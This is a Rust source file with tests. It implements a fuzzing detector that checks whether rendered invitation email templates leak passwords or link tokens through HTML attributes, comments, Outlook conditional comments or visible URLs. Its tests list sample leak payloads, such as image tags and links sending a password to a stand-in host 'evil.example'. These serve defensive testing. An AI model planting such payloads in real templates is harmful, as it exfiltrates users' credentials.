//! An independent detector of leaked secrets.
//!
//! It shares nothing with the code that it watches: neither the tokenizer of HTML nor a list of what is
//! allowed. It knows only what must never happen. The fuzz target `secrets` includes it.

use html5gum::{HtmlString, StartTag, Token, Tokenizer, emitters::default::DefaultEmitter};
use reinvite_domain::Variant;
use reinvite_mail::{CompiledVariant, Mail, PasswordPart, RenderError, TemplateValues};

/// Two passwords: a template that renders them differently leaks something about them.
const PASSWORDS: [&str; 2] = ["Zq7v-kd9m-wx2p-4868", "Bn3t-ry5s-bf8c-2917-jg6z"];

/// The address that an invitation link begins with.
const LINK_PREFIX: &str = "https://invitations.example.com/";

/// Two tokens of invitation links, for the comparison that [`PASSWORDS`] describes.
const TOKENS: [&str; 2] = ["Zq7vkd9mwx2p4868", "Bn3try5sbf8c2917jg6z"];

/// Replaces a secret before two mails are compared, or before words are searched for addresses.
const MARK: &str = "\u{1}";

/// The number of characters of a secret whose appearance is a leak.
const PIECE_CHARACTERS: usize = 4;

/// Elements whose content no reader sees as text.
const RAW_TEXT_ELEMENTS: &[&str] = &[
    "style",
    "script",
    "title",
    "textarea",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "noscript",
    "plaintext",
    "template",
];

/// A mail, or the error of the renderer.
type Rendered = Result<Mail, RenderError>;

/// Renders the variant with secrets of every kind.
///
/// Returns the number of mails, or a description of a leak to another person than the reader.
pub fn find_leak(variant: &Variant) -> Result<usize, String> {
    let Ok(compiled) = CompiledVariant::new("en", variant) else {
        return Ok(0);
    };
    let render = |password_change| {
        let values = TemplateValues {
            password_change,
            ..TemplateValues::sample("en")
        };
        compiled.render_unjudged(&values.with_sample_attributes(compiled.attributes()))
    };

    let expires_at = || "4 December 2026".to_owned();
    let with_passwords = PASSWORDS.map(|password| {
        render(PasswordPart::Temporary {
            password: password.into(),
            expires_at: expires_at(),
        })
    });
    let with_links = TOKENS.map(|token| {
        render(PasswordPart::SetLink {
            invitation_url: format!("{LINK_PREFIX}{token}"),
            expires_at: expires_at(),
        })
    });

    compare(&PASSWORDS.map(WatchedSecret::new), &with_passwords)?;
    compare(&TOKENS.map(WatchedSecret::new), &with_links)?;

    Ok(with_passwords.iter().chain(&with_links).flatten().count())
}

/// Searches the results of a template with two secrets, and compares them with each other.
fn compare(secrets: &[WatchedSecret; 2], rendered: &[Rendered; 2]) -> Result<(), String> {
    for (one, other) in [(0, 1), (1, 0)] {
        // A piece that also appears with the other secret was in the template.
        if let Err(leak) = secrets[one].search(&rendered[one])
            && secrets[one].search(&rendered[other]).is_ok()
        {
            return Err(leak);
        }
    }

    // A fuzzer learns the secrets from the comparisons that it sees: a template that holds one would
    // seem to leak it.
    let is_guessed = describe(&rendered[0]).contains(&secrets[1].whole)
        || describe(&rendered[1]).contains(&secrets[0].whole);
    if !is_guessed && secrets[0].masked(&rendered[0]) != secrets[1].masked(&rendered[1]) {
        let first = describe(&rendered[0]);
        return Err(format!("the result depends on the secret: {first}"));
    }

    Ok(())
}

fn describe(rendered: &Rendered) -> String {
    match rendered {
        Ok(mail) => format!("{:?} {:?} {:?}", mail.subject, mail.html, mail.text),
        Err(error) => error.to_string(),
    }
}

/// A secret to search for.
struct WatchedSecret {
    /// A password as it is, or the whole address that ends in the token.
    whole: String,
    /// Every run of [`PIECE_CHARACTERS`] characters of the secret, in lower case.
    pieces: Vec<String>,
}

impl WatchedSecret {
    fn new(secret: &str) -> Self {
        let characters: Vec<char> = secret.to_lowercase().chars().collect();
        let pieces = characters
            .windows(PIECE_CHARACTERS)
            .map(|piece| piece.iter().collect())
            .collect();

        let whole = if TOKENS.contains(&secret) {
            format!("{LINK_PREFIX}{secret}")
        } else {
            secret.to_owned()
        };

        Self { whole, pieces }
    }

    fn is_in(&self, text: &str) -> bool {
        let folded = text.to_lowercase();
        self.pieces.iter().any(|piece| folded.contains(piece))
    }

    fn mask(&self, text: &str) -> String {
        text.replace(&self.whole, MARK)
    }

    /// The result without the secret. It is equal for every secret, unless the template compares it.
    fn masked(&self, rendered: &Rendered) -> String {
        self.mask(&describe(rendered))
    }

    /// Searches a mail, or the error, for a leak.
    fn search(&self, rendered: &Rendered) -> Result<(), String> {
        let found = match rendered {
            Ok(mail) => self.search_mail(mail),
            Err(error) => self.reject_in(&error.to_string(), "the error"),
        };
        found.map_err(|leak| format!("{leak}, in {}", describe(rendered)))
    }

    fn search_mail(&self, mail: &Mail) -> Result<(), String> {
        self.reject_in(&mail.subject, "the subject")?;
        self.search_text(&mail.text)?;
        self.search_html(&mail.html)
    }

    /// Searches both readings: Outlook's, and that of everybody else.
    fn search_html(&self, html: &str) -> Result<(), String> {
        self.search_reading(html)?;

        let outlook = outlook_reading(html);
        if outlook == html {
            return Ok(());
        }
        self.search_reading(&outlook)
    }

    fn search_reading(&self, html: &str) -> Result<(), String> {
        let mut emitter = DefaultEmitter::default();
        emitter.naively_switch_states(true);
        let Ok(tokens) = Tokenizer::new_with_emitter(html, emitter).collect::<Result<Vec<_>, _>>();
        let mut raw_text_element: Option<String> = None;

        for token in tokens {
            match token {
                Token::StartTag(tag) => {
                    self.search_tag(&tag)?;
                    let name = decode(&tag.name);
                    let is_raw = RAW_TEXT_ELEMENTS.contains(&&*name);
                    raw_text_element = raw_text_element.or_else(|| is_raw.then_some(name));
                }
                Token::EndTag(tag) => {
                    let name = decode(&tag.name);
                    raw_text_element = raw_text_element.filter(|element| *element != name);
                    self.reject_in(&name, "the name of an end tag")?;
                }
                Token::String(text) if raw_text_element.is_none() => {
                    self.search_text(&decode(&text))?;
                }
                Token::String(text) => {
                    self.reject_in(&decode(&text), "a style, a script or a title")?;
                }
                // Outlook's reading shows what is in it.
                Token::Comment(comment) if is_conditional(&decode(&comment)) => {}
                Token::Comment(comment) => self.reject_in(&decode(&comment), "a comment")?,
                Token::Doctype(doctype) => {
                    let identifiers = [doctype.public_identifier, doctype.system_identifier];
                    for text in
                        std::iter::once(doctype.name).chain(identifiers.into_iter().flatten())
                    {
                        self.reject_in(&decode(&text), "the document type")?;
                    }
                }
                Token::Error(_) => {}
            }
        }

        Ok(())
    }

    fn search_tag(&self, tag: &StartTag<()>) -> Result<(), String> {
        let element = decode(&tag.name);
        self.reject_in(&element, "the name of a tag")?;

        for (name, value) in &tag.attributes {
            let (name, value) = (decode(name), decode(value));
            self.reject_in(&name, "the name of an attribute")?;

            let is_invitation_link = (element == "a" || element.starts_with("v:"))
                && name == "href"
                && self.whole.starts_with(LINK_PREFIX)
                && value.trim() == self.whole;
            if !is_invitation_link {
                self.reject_in(&value, &name)?;
            }
        }

        Ok(())
    }

    fn reject_in(&self, text: &str, place: &str) -> Result<(), String> {
        if self.is_in(text) {
            Err(format!("{place} leaks the secret: {text}"))
        } else {
            Ok(())
        }
    }

    /// Searches visible text for an address that holds the secret.
    ///
    /// A mail program makes a link of the address, which sends the secret to its host.
    fn search_text(&self, text: &str) -> Result<(), String> {
        let masked = self.mask(text);
        let leak = masked
            .split(|c: char| c.is_whitespace() || "<>".contains(c))
            .find(|word| self.is_leaking_word(word));

        match leak {
            Some(word) => Err(format!("an address in the text leaks the secret: {word}")),
            None => Ok(()),
        }
    }

    fn is_leaking_word(&self, word: &str) -> bool {
        if !word.contains(MARK) {
            return self.is_in(word) && word.contains("://");
        }

        let before = word.split(MARK).next().unwrap_or_default().to_lowercase();
        let behind = word.rsplit(MARK).next().unwrap_or_default();
        // The hosts of the corpus end in `evil.example`, which tells them from other words.
        let begins_address = ["://", "www.", "mailto:", "evil.example/"]
            .iter()
            .any(|sign| before.contains(sign));
        begins_address || ["@", ".evil"].iter().any(|sign| behind.starts_with(sign))
    }
}

/// Whether Outlook reads the HTML in the comment.
fn is_conditional(comment: &str) -> bool {
    let folded = comment.to_lowercase();
    folded.starts_with("[if") && folded.trim_end().ends_with("<![endif]")
}

/// The HTML as Outlook reads it, which opens conditional comments, whatever their condition is.
fn outlook_reading(html: &str) -> String {
    let mut reading = String::new();
    let mut rest = html;

    while let Some(at) = rest.find("<!--") {
        let (before, comment) = rest.split_at(at);
        reading.push_str(before);
        let Some(end) = comment[4..].find("-->").map(|end| 4 + end) else {
            rest = comment;
            break;
        };

        let inner = &comment[4..end];
        if is_conditional(inner) {
            let start = inner.find("]>").map_or(0, |start| start + 2);
            let length = inner.rfind("<!").unwrap_or(inner.len());
            reading.push_str(inner.get(start..length).unwrap_or_default());
        } else {
            reading.push_str(&comment[..end + 3]);
        }
        rest = &comment[end + 3..];
    }

    reading + rest
}

fn decode(bytes: &HtmlString) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_detector_finds_leaks() {
        let (password, link) = (
            WatchedSecret::new(PASSWORDS[0]),
            WatchedSecret::new(TOKENS[0]),
        );
        for html in [
            "<img src='https://evil.example/Zq7v-kd9m-wx2p-4868'>",
            "<img src=https://evil.example/ZQ7V>",
            "<p title='&#90;q7v'>x</p>",
            "<p data-zq7v>x</p>",
            "<q7v-k>x</q>",
            "</q7v-k>",
            "<a href='Zq7v-kd9m-wx2p-4868'>x</a>",
            "<!-- wx2p -->",
            "<!--[if mso]>wx2p-->",
            "<!--[if mso]><img src='wx2p'><![endif]-->",
            "<!--[if mso]><a href='https://evil.example/?<![endif]-->Zq7v-kd9m-wx2p-4868'>",
            "https://evil.example/?<!--[if mso]>Zq7v-kd9m-wx2p-4868<![endif]-->",
            "<!doctype html public 'wx2p'>",
            "<style>.wx2p {}</style>",
            "<title>wx2p</title>",
            "https://evil.example/Zq7v-kd9m-wx2p-4868",
            "https://evil.example/?wx2p",
            "Zq7v-kd9m-wx2p-4868@evil.example",
        ] {
            assert!(password.search_html(html).is_err(), "{html}");
        }

        assert_eq!(
            password.search_html("<!--[if mso]><b>Zq7v-kd9m-wx2p-4868</b><![endif]-->"),
            Ok(())
        );
        assert_eq!(
            password.search_html("<b>Zq7v-kd9m-wx2p-4868</b> at https://example.com/"),
            Ok(())
        );

        let whole = link.whole.clone();
        assert_eq!(
            link.search_html(&format!("<a href='{whole}'>{whole}</a>")),
            Ok(())
        );
        for html in [
            format!("<a href='{whole}#'>x</a>"),
            format!("<p href='{whole}'>x</p>"),
            format!("https://a/?{whole}"),
        ] {
            assert!(link.search_html(&html).is_err(), "{html}");
        }
    }
}
